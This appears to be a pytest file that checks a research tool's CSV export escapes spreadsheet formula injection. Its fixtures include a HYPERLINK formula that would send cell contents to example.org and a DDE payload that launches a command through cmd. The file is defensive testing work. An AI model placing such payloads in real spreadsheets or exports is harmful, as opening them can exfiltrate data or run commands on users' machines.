"""The exported table: what a spreadsheet would execute stays text, what is a number stays one."""

from __future__ import annotations

import csv
import io
import math
from pathlib import Path

import pytest

from ddl_dyn.config.formats import cell
from ddl_dyn.runs import atomic_files, read_json
from ddl_dyn.runs.export import export
from tests.helpers.run_folders import make_run


@pytest.mark.parametrize("text", ["=1+1", "+A1", "-A1", "@SUM(A1)", "\t=1", "\r=1", "  =1", "-", "--1", "＝1"])
def test_what_would_be_a_formula_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", [-1, -1.5, math.inf, None, True, "-1.5", "+2", "-inf", "a=1", "", "'=1", [-1, -2]])
def test_numbers_and_plain_text_stay_as_they_are(value: object) -> None:
    assert cell(value) == value
    assert type(cell(value)) is type(value)


def test_an_exported_table_holds_no_formula(tmp_path: Path) -> None:
    formula = '=HYPERLINK("http://example.org?"&A1)'
    run = make_run(tmp_path, "1", note=formula, tags=[formula], comment="@x", model="-cmd|' /C calc'!A0")
    config = read_json(run / "config.json") | {formula: -3, "model": "+x", "lr": -0.5}
    atomic_files.write_json(run / "config.json", config)
    atomic_files.write_json(run / "result.json", {"test": {"gap": -2.5e-05}})
    rows = list(csv.DictReader(io.StringIO(export(tmp_path, "csv"))))
    cells = [*rows[0], *rows[0].values()]
    assert [text for text in cells if text[:1] in ("=", "+", "-", "@")] == ["-3", "-0.5", "-2.5e-05"]
    assert rows[0]["note"] == f"'{formula}"
    assert float(rows[0]["result.test.gap"]) == -2.5e-05
